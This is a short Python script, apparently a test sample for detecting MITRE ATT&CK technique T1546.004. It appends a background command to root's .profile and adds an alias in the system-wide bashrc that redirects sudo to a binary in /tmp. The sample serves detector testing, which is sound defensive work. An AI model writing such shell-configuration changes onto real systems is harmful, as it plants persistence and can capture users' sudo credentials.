#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
# T1546.004 Unix Shell Configuration Modification: done in another way than in tests/data/techniques, or there not at all.
open('/root/.profile','a').write('\n(/usr/bin/true &)\n')
open('/etc/bash.bashrc','a').write('\nalias sudo=/tmp/x\n')
